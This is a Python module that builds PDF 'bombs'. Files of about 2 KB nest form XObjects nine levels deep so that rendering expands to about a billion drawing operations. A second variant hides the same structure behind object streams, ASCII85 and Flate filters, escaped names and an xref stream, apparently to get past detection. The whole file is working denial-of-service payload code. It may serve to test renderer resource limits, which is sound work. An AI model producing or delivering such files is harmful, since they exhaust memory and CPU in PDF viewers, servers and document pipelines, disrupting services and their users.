"""PDF bombs of form XObjects within form XObjects, written by hand: 2 KB that come to 10^9 drawings."""

import base64
import zlib

DEPTH = 9
"""Forms within one another; each draws the next ten times."""
_FIRST = 5
_PAGE = (
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
    b"/Resources << /XObject << /F 5 0 R >> >> >>"
)


def nested_forms(times: int = 10) -> bytes:
    """Forms whose streams are packed and whose resources stand in their dictionaries."""
    objects = [_CATALOG, _PAGES, _PAGE, _stream(b"", b"/F Do")]
    for number in range(DEPTH):
        resources = b"<< /XObject << /F %d 0 R >> >>" % (_FIRST + number + 1)
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources " + resources
        packed = zlib.compress(_drawing(number, times))
        objects.append(_stream(head + b" /Filter /FlateDecode", packed))
    return _file(objects)


def nested_forms_in_object_stream(times: int = 10) -> bytes:
    """The same with page and resources packed in an object stream, other filters and escaped names."""
    names = {_FIRST + n: b"/F#6Frm%d" % n for n in range(DEPTH + 1)}
    resources = [b"<< /XObject << /Fo#72m%d %d 0 R >> >>" % (n + 1, _FIRST + n + 1) for n in range(DEPTH)]
    first_resources = _FIRST + DEPTH
    holder = first_resources + DEPTH
    page = _PAGE.replace(b"/F 5 0 R", names[_FIRST] + b" 5 0 R")
    packed = [(1, _CATALOG), (2, _PAGES), (3, page)]
    packed += [(first_resources + n, each) for n, each in enumerate(resources)]
    bodies = {4: _stream(b"", names[_FIRST] + b"\nDo")}
    for n in range(DEPTH):
        drawing = _drawing(n, times).replace(b"/F ", b"/Form%d %% drawn again\n" % (n + 1))
        head = b"/Subtype/Form /BBox [0 0 9 9] /Resources %d 0 R /Filter [/A85 /Fl]" % (first_resources + n)
        bodies[_FIRST + n] = _stream(head, base64.a85encode(zlib.compress(drawing)) + b"~>")
    places, content = [], b""
    for number, each in packed:
        places.append(b"%d %d" % (number, len(content)))
        content += each + b" "
    start = b" ".join(places) + b" "
    head = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(start))
    bodies[holder] = _stream(head, zlib.compress(start + content))
    return _file_with_xref_stream(bodies, holder, [number for number, _ in packed])


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def _drawing(number: int, times: int) -> bytes:
    return b"/F Do\n" * times if number < DEPTH - 1 else b"0 0 m 9 9 l S"


def _stream(head: bytes, packed: bytes) -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (head, len(packed), packed)


def _file(objects: list[bytes]) -> bytes:
    content, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return content + (
        b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, rows, size, len(content))
    )


def _file_with_xref_stream(bodies: dict[int, bytes], holder: int, packed: list[int]) -> bytes:
    content = b"%PDF-1.7\n"
    entries = {0: (0, 0, 255)} | {number: (2, holder, place) for place, number in enumerate(packed)}
    for number, body in bodies.items():
        entries[number] = (1, len(content), 0)
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    own = holder + 1
    entries[own] = (1, len(content), 0)
    rows = b"".join(
        bytes([kind]) + place.to_bytes(4, "big") + bytes([index])
        for kind, place, index in (entries[number] for number in range(own + 1))
    )
    head = b"/Type /XRef /Size %d /W [1 4 1] /Root 1 0 R" % (own + 1)
    return content + b"%d 0 obj\n%b\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        own,
        _stream(head, rows),
        len(content),
    )
